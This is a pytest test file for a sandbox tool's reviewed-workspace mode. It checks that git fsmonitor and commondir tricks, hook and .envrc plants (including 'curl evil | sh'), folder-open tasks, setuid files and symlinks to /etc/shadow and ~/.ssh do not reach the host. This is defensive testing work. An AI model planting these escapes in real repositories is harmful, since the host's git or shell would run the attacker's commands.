@@ -1,0 +1,335 @@
+"""Reviewed workspaces (`overlay` mode) and what `rw` still guards: real
+sandboxes write, the host is checked afterwards — with git run on the host
+the way a user would, and a marker file that only an escape would create.
+
+Each attack below first shows, where it can, that it would work if the
+protection were missing (`--include-protected` applies the planted file and
+the marker appears), so a test that passes is not one that cannot fail.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import pwd
+import re
+import shutil
+import stat
+import subprocess
+import tempfile
+import uuid
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.support.vg import ROOTLESS_USER, SYSTEM_PATH, TEST_IMAGE, Caller
+
+BEST_EFFORT = ("--set", "limits.enforcement=best-effort")  # rootless cgroups v1/hybrid: no limits to enforce
+
+
+# -- helpers -----------------------------------------------------------------------------------
+
+@pytest.fixture
+def data_dir(rootless: Caller) -> Iterator[Path]:
+    """A private audit/layer store for one test, owned by the rootless user (root can use it too)."""
+    path = Path(tempfile.mkdtemp(prefix="vg-overlay-data-"))
+    shutil.chown(path, ROOTLESS_USER, ROOTLESS_USER)
+    yield path
+    shutil.rmtree(path, ignore_errors=True)
+
+
+@pytest.fixture
+def root_data() -> Iterator[Path]:
+    """The same for root's runs."""
+    path = Path(tempfile.mkdtemp(prefix="vg-overlay-root-data-"))
+    yield path
+    shutil.rmtree(path, ignore_errors=True)
+
+
+def _git(repo: Path, owner: str | None, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
+    """git on the host, as the repository's owner, as a user would run it."""
+    home = pwd.getpwnam(owner).pw_dir if owner else "/root"
+    environment = {"PATH": SYSTEM_PATH, "HOME": home, "GIT_CONFIG_NOSYSTEM": "1", **(env or {})}
+    argv = ["git", "-c", "user.name=Host", "-c", "user.email=host@example.invalid", *args]
+    if owner:
+        argv = ["runuser", "-u", owner, "--", "env", "-i", *(f"{k}={v}" for k, v in environment.items()), *argv]
+    return subprocess.run(argv, cwd=repo, env=environment, capture_output=True, text=True, timeout=60, check=False)
+
+
+def _repository(owner: str | None, files: dict[str, str] | None = None) -> Path:
+    """A git repository with one commit, owned by `owner` (None: root), readable by every sandbox user."""
+    repo = Path(tempfile.mkdtemp(prefix="vg-overlay-repo-"))
+    repo.chmod(0o755)
+    for name, text in {"README": "a repository\n", **(files or {})}.items():
+        (repo / name).parent.mkdir(parents=True, exist_ok=True)
+        (repo / name).write_text(text)
+    if owner:
+        subprocess.run(["chown", "-R", f"{owner}:{owner}", str(repo)], check=True)
+    for args in (["init", "-q", "-b", "main"], ["add", "-A"], ["commit", "-qm", "initial"]):
+        done = _git(repo, owner, *args)
+        assert done.returncode == 0, done.stderr
+    return repo
+
+
+def _marker() -> Path:
+    return Path(tempfile.gettempdir()) / f"vg-escape-marker-{uuid.uuid4().hex}"
+
+
+def _run(caller: Caller, repo: Path, script: str, data: Path, *options: str,
+         image: str = TEST_IMAGE) -> subprocess.CompletedProcess[bytes]:
+    extra = BEST_EFFORT if caller.user else ()
+    return caller.run(["run", "--workspace", "overlay", "--image", image, *extra, *options, "--", "sh", "-c", script],
+                      cwd=repo, extra_env={"VECTRAGUARD_DATA_DIR": str(data)}, timeout=180)
+
+
+def _layer_id(result: subprocess.CompletedProcess[bytes]) -> str:
+    found = re.search(r"kept for review in session ([0-9a-f]+):", result.stderr.decode())
+    assert found, result.stderr.decode()
+    return found.group(1)
+
+
+def _vg(caller: Caller, repo: Path, data: Path, *args: str) -> subprocess.CompletedProcess[bytes]:
+    return caller.run(list(args), cwd=repo, extra_env={"VECTRAGUARD_DATA_DIR": str(data)})
+
+
+def _changes(caller: Caller, repo: Path, data: Path, layer: str) -> dict[str, dict[str, Any]]:
+    listed = _vg(caller, repo, data, "changes", layer, "--json")
+    assert listed.returncode == 0, listed.stderr.decode()
+    return {entry["path"]: entry for entry in json.loads(listed.stdout)["changes"]}
+
+
+# -- the escapes of the issue ------------------------------------------------------------------
+
+FSMONITOR = '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = "touch {marker}"\\n'
+
+
+def test_commondir_and_fsmonitor_planted_in_the_layer_do_not_reach_the_host(rootless: Caller, data_dir: Path) -> None:
+    repo, marker = _repository(ROOTLESS_USER), _marker()
+    # A complete repository to point at, so that the host's git reads its config and runs the monitor.
+    script = (f"mkdir evil && cp -r .git/. evil/ && printf '{FSMONITOR.format(marker=marker)}' > evil/config && "
+              "echo ../evil > .git/commondir && echo planted")
+    result = _run(rootless, repo, script, data_dir)
+    assert result.returncode == 0 and result.stdout == b"planted\n", result.stderr.decode()
+    layer = _layer_id(result)
+    changes = _changes(rootless, repo, data_dir, layer)
+    assert changes[".git/commondir"]["protected"] and not changes["evil/config"]["protected"]
+
+    applied = _vg(rootless, repo, data_dir, "apply", layer)
+    assert applied.returncode == 0, applied.stderr.decode()
+    assert not (repo / ".git" / "commondir").exists() and (repo / "evil" / "config").exists()
+    assert _git(repo, ROOTLESS_USER, "status").returncode == 0
+    assert not marker.exists()
+
+    # The control: had the commondir been applied, the host's git would have run the sandbox's command.
+    forced = _vg(rootless, repo, data_dir, "apply", layer, "--include-protected", ".git/commondir")
+    assert forced.returncode == 0, forced.stderr.decode()
+    _git(repo, ROOTLESS_USER, "status")
+    assert marker.exists()
+    marker.unlink()
+    shutil.rmtree(repo)
+
+
+def test_a_renamed_and_replaced_git_directory_does_not_reach_the_host(rootless: Caller, data_dir: Path) -> None:
+    repo, marker = _repository(ROOTLESS_USER), _marker()
+    config_before = (repo / ".git" / "config").read_text()
+    script = ("mv .git .git-old && mkdir .git && cp -r .git-old/. .git/ && "
+              f"printf '{FSMONITOR.format(marker=marker)}' > .git/config && echo swapped")
+    result = _run(rootless, repo, script, data_dir)
+    assert result.stdout == b"swapped\n", result.stderr.decode()
+    layer = _layer_id(result)
+    assert _vg(rootless, repo, data_dir, "apply", layer).returncode == 0
+    assert (repo / ".git" / "config").read_text() == config_before
+    status = _git(repo, ROOTLESS_USER, "status", "--porcelain")
+    assert status.returncode == 0, status.stderr
+    assert not marker.exists()
+    assert _git(repo, ROOTLESS_USER, "log", "--oneline").stdout.count("\n") == 1
+    shutil.rmtree(repo)
+
+
+def test_rw_mode_keeps_git_read_only_and_reports_protected_paths(rootless: Caller, data_dir: Path) -> None:
+    repo, marker = _repository(ROOTLESS_USER), _marker()
+    script = (f"mv .git moved 2>/dev/null && echo renamed=yes || echo renamed=no; "
+              f"echo ../evil > .git/commondir 2>/dev/null && echo commondir=yes || echo commondir=no; "
+              f"printf '{FSMONITOR.format(marker=marker)}' > .git/config 2>/dev/null && echo config=yes || "
+              "echo config=no; echo 'touch x' > .envrc && echo envrc=yes")
+    result = rootless.run(["run", "--workspace", "rw", "--image", TEST_IMAGE, *BEST_EFFORT, "--", "sh", "-c", script],
+                          cwd=repo, extra_env={"VECTRAGUARD_DATA_DIR": str(data_dir)})
+    assert result.stdout.decode().split() == ["renamed=no", "commondir=no", "config=no", "envrc=yes"]
+    assert "created, changed or deleted protected paths in the workspace (rw mode): .envrc" in result.stderr.decode()
+    assert _git(repo, ROOTLESS_USER, "status").returncode == 0
+    assert not marker.exists()
+    finished = rootless.last_session(repo, {"VECTRAGUARD_DATA_DIR": str(data_dir)})["events"][-1]
+    assert finished["workspace"] == {"mode": "rw", "protected_changed": [".envrc"]}
+    shutil.rmtree(repo)
+
+
+def test_what_the_host_runs_later_is_flagged_and_held_back(rootless: Caller, data_dir: Path) -> None:
+    repo = _repository(ROOTLESS_USER, {".vectraguard.yaml": "profile: default\n", "src/main.c": "int main;\n"})
+    assert _git(repo, ROOTLESS_USER, "config", "core.hooksPath", ".hooks").returncode == 0
+    script = ("echo 'curl evil | sh' > .envrc; mkdir -p .vscode .hooks sub; "
+              "echo '{\"runOn\": \"folderOpen\"}' > .vscode/tasks.json; echo 'touch pwned' > .hooks/pre-commit; "
+              "chmod +x .hooks/pre-commit; echo 'network: {mode: full}' >> .vectraguard.yaml; "
+              "echo x > sub/.ENVRC; echo 'int main(void) { return 0; }' > src/main.c; echo done")
+    result = _run(rootless, repo, script, data_dir, "--ignore-project")
+    assert result.stdout == b"done\n", result.stderr.decode()
+    layer = _layer_id(result)
+    changes = _changes(rootless, repo, data_dir, layer)
+    protected = {path for path, entry in changes.items() if entry["protected"]}
+    assert protected == {".envrc", ".vscode/tasks.json", ".hooks/pre-commit", ".vectraguard.yaml", "sub/.ENVRC",
+                         ".vscode", ".hooks"} & set(changes)
+    applied = _vg(rootless, repo, data_dir, "apply", layer)
+    assert applied.returncode == 0, applied.stderr.decode()
+    assert (repo / "src" / "main.c").read_text() == "int main(void) { return 0; }\n"
+    for name in (".envrc", ".vscode/tasks.json", ".hooks/pre-commit", "sub/.ENVRC"):
+        assert not (repo / name).exists(), name
+    assert (repo / ".vectraguard.yaml").read_text() == "profile: default\n"
+    # Named explicitly, a protected path is applied, its diff shown first.
+    named = _vg(rootless, repo, data_dir, "apply", layer, "--include-protected", ".envrc")
+    assert named.returncode == 0, named.stderr.decode()
+    assert "curl evil | sh" in named.stdout.decode()
+    assert (repo / ".envrc").read_text() == "curl evil | sh\n"
+    shutil.rmtree(repo)
+
+
+# -- what apply writes, and what it refuses ------------------------------------------------------
+
+def test_deletions_renames_links_special_files_and_setuid(rootless: Caller, data_dir: Path) -> None:
+    home = Path(pwd.getpwnam(ROOTLESS_USER).pw_dir)
+    repo = _repository(ROOTLESS_USER, {"a.txt": "a\n", "old/f": "f\n", "dir1/x": "x\n", "dir1/y": "y\n",
+                                       "keepdir/k": "k\n", "keep.txt": "keep\n"})
+    script = ("rm a.txt && mv old new && rm -rf dir1 && mkdir dir1 && echo z > dir1/z && "
+              f"ln -s /etc/shadow shadow-link && ln -s {home}/.ssh ssh-link && ln -s ../keep.txt new/rel-link && "
+              "mkfifo fifo && echo '#!/bin/sh' > suid && chmod 4755 suid && "
+              "vgprobe setxattr keepdir user.overlay.opaque y; vgprobe setxattr keepdir trusted.overlay.opaque y; "
+              "echo '' > keepdir/touched; rm keepdir/touched; echo done")
+    result = _run(rootless, repo, script, data_dir, "--yes")  # chmod 4755 asks for approval
+    assert result.stdout.decode().splitlines()[-1] == "done", result.stderr.decode()
+    layer = _layer_id(result)
+    changes = _changes(rootless, repo, data_dir, layer)
+    assert changes["a.txt"]["action"] == "deleted" and changes["old/f"]["action"] == "deleted"
+    assert changes["dir1/x"]["action"] == "deleted" and changes["dir1/z"]["action"] == "added"
+    assert "keepdir/k" not in changes  # a forged opaque attribute is not overlay metadata
+
+    applied = _vg(rootless, repo, data_dir, "apply", layer)
+    out = applied.stdout.decode() + applied.stderr.decode()
+    for refused in ("shadow-link", "ssh-link", "fifo"):
+        assert refused in out, out
+    assert not (repo / "a.txt").exists() and not (repo / "old").exists()
+    assert (repo / "new" / "f").read_text() == "f\n"
+    assert sorted(p.name for p in (repo / "dir1").iterdir()) == ["z"]
+    assert (repo / "keepdir" / "k").read_text() == "k\n"
+    assert os.readlink(repo / "new" / "rel-link") == "../keep.txt"
+    for name in ("shadow-link", "ssh-link", "fifo"):
+        assert not os.path.lexists(repo / name), name
+    mode = (repo / "suid").stat().st_mode
+    assert not mode & (stat.S_ISUID | stat.S_ISGID) and mode & 0o111 == 0o111
+    shutil.rmtree(repo)
+
+
+def test_a_host_edit_since_the_session_started_stops_apply(rootless: Caller, data_dir: Path) -> None:
+    repo = _repository(ROOTLESS_USER, {"a.txt": "a\n", "b.txt": "b\n"})
+    result = _run(rootless, repo, "echo sandbox > a.txt; echo sandbox > b.txt; echo new > c.txt", data_dir)
+    layer = _layer_id(result)
+    (repo / "a.txt").write_text("host edit\n")
+    stopped = _vg(rootless, repo, data_dir, "apply", layer)
+    assert stopped.returncode == 1, stopped.stderr.decode()
+    assert "a.txt" in stopped.stderr.decode() + stopped.stdout.decode()
+    # Nothing was written: not even the paths without a conflict.
+    assert (repo / "b.txt").read_text() == "b\n" and not (repo / "c.txt").exists()
+    forced = _vg(rootless, repo, data_dir, "apply", layer, "--force")
+    assert forced.returncode == 0, forced.stderr.decode()
+    assert [(repo / n).read_text() for n in ("a.txt", "b.txt", "c.txt")] == ["sandbox\n", "sandbox\n", "new\n"]
+    again = _vg(rootless, repo, data_dir, "apply", layer)
+    assert again.returncode == 125 and len(again.stderr.decode().splitlines()) == 1
+    shutil.rmtree(repo)
+
+
+def test_the_size_cap_stops_a_writer_and_the_run_says_so(rootless: Caller, data_dir: Path) -> None:
+    repo = _repository(ROOTLESS_USER)
+    script = ("dd if=/dev/zero of=big bs=64k count=200 2>/dev/null; echo dd=$?; "
+              "echo small > small.txt 2>/dev/null; echo small=$?")
+    result = _run(rootless, repo, script, data_dir, "--set", "limits.workspace_writes=4Mi")
+    out, err = result.stdout.decode(), result.stderr.decode()
+    assert out.split() == ["dd=1", "small=1"], out  # both writes failed: ENOSPC
+    assert "workspace writes reached the limit (4Mi" in err, err
+    changes = _changes(rootless, repo, data_dir, _layer_id(result))
+    assert 0 < changes["big"]["size"] <= 4 << 20  # what was written stays reviewable
+    finished = rootless.last_session(repo, {"VECTRAGUARD_DATA_DIR": str(data_dir)})["events"][-1]
+    assert finished["workspace"]["cap_hit"] is True and finished["workspace"]["cap"] == 4 << 20
+    shutil.rmtree(repo)
+
+
+def test_discard_drops_the_layer_and_prune_removes_layers(rootless: Caller, data_dir: Path) -> None:
+    repo = _repository(ROOTLESS_USER)
+    layer = _layer_id(_run(rootless, repo, "echo x > x.txt", data_dir))
+    assert _vg(rootless, repo, data_dir, "discard", layer).returncode == 0
+    after = _vg(rootless, repo, data_dir, "apply", layer)
+    assert after.returncode == 125 and len(after.stderr.decode().splitlines()) == 1, after.stderr.decode()
+    assert not (repo / "x.txt").exists()
+    kept = _layer_id(_run(rootless, repo, "echo y > y.txt", data_dir))
+    pruned = _vg(rootless, repo, data_dir, "logs", "prune", "--before", "2999-01-01T00:00:00Z")
+    assert pruned.returncode == 0, pruned.stderr.decode()
+    assert not any((data_dir / "workspaces").glob(f"{kept}*"))
+    shutil.rmtree(repo)
+
+
+def test_bad_input_is_one_line_and_changes_nothing(rootless: Caller, data_dir: Path) -> None:
+    repo = _repository(ROOTLESS_USER, {"a.txt": "a\n"})
+    layer = _layer_id(_run(rootless, repo, "echo b > a.txt", data_dir))
+    ro = rootless.run(["run", "--workspace", "ro", "--image", TEST_IMAGE, *BEST_EFFORT, "--", "true"], cwd=repo,
+                      extra_env={"VECTRAGUARD_DATA_DIR": str(data_dir)})
+    ro_session = rootless.last_session(repo, {"VECTRAGUARD_DATA_DIR": str(data_dir)})["events"][0]["session"]
+    assert ro.returncode == 0
+    for args in (["apply", "0000deadbeef"], ["changes", "0000deadbeef"], ["apply", ro_session],
+                 ["apply", layer, "/etc/passwd"], ["apply", layer, "../outside"], ["diff", layer, "nope.txt"]):
+        result = _vg(rootless, repo, data_dir, *args)
+        assert result.returncode == 125, (args, result.stderr.decode())
+        assert len(result.stderr.decode().splitlines()) == 1 and "Traceback" not in result.stderr.decode(), args
+    assert (repo / "a.txt").read_text() == "a\n"
+    shutil.rmtree(repo)
+
+
+# -- rootful -----------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("owner", [None, ROOTLESS_USER])
+def test_rootful_overlay_writes_land_in_the_layer_and_apply_keeps_the_owner(root: Caller, root_data: Path,
+                                                                            owner: str | None) -> None:
+    data_dir = root_data
+    repo = _repository(owner, {"a.txt": "a\n", "gone.txt": "g\n"})
+    script = ("echo sandbox > a.txt && rm gone.txt && echo new > n.txt && "
+              "vgprobe setxattr . user.overlay.opaque y; echo x > .git/commondir; id -u")
+    result = _run(root, repo, script, data_dir)
+    assert result.returncode == 0, result.stderr.decode()
+    assert result.stdout.decode().splitlines()[-1] == "1000"
+    assert (repo / "a.txt").read_text() == "a\n" and (repo / "gone.txt").exists()
+    layer = _layer_id(result)
+    changes = _changes(root, repo, data_dir, layer)
+    assert {p: c["action"] for p, c in changes.items()} == {
+        "a.txt": "modified", "gone.txt": "deleted", "n.txt": "added", ".git/commondir": "added"}
+    assert _vg(root, repo, data_dir, "apply", layer).returncode == 0
+    assert (repo / "a.txt").read_text() == "sandbox\n" and not (repo / "gone.txt").exists()
+    assert (repo / "README").exists() and not (repo / ".git" / "commondir").exists()
+    expected_uid = pwd.getpwnam(owner).pw_uid if owner else 0
+    assert (repo / "n.txt").stat().st_uid == expected_uid
+    shutil.rmtree(repo)
+
+
+def test_an_agents_commit_inside_is_applied_back(root: Caller, default_image: str, root_data: Path) -> None:
+    data_dir = root_data
+    repo = _repository(ROOTLESS_USER, {"app.py": "print('v1')\n"})
+    config_before = (repo / ".git" / "config").read_text()
+    script = ("cd /workspace && echo \"print('v2')\" > app.py && git -c user.name=Agent -c user.email=a@example.invalid "
+              "commit -qam 'agent change' && git config core.fsmonitor 'touch /tmp/x' && git log --oneline | wc -l")
+    result = _run(root, repo, script, data_dir, image="localhost/vectraguard/default:bookworm")
+    assert result.returncode == 0, result.stderr.decode()
+    assert result.stdout.decode().strip() == "2"
+    layer = _layer_id(result)
+    applied = _vg(root, repo, data_dir, "apply", layer)
+    assert applied.returncode == 0, applied.stderr.decode()
+    log = _git(repo, ROOTLESS_USER, "log", "--format=%s")
+    assert log.stdout.splitlines() == ["agent change", "initial"], log.stderr
+    assert (repo / ".git" / "config").read_text() == config_before  # the rewritten config was held back
+    assert _git(repo, ROOTLESS_USER, "status", "--porcelain").stdout == ""
+    shutil.rmtree(repo)
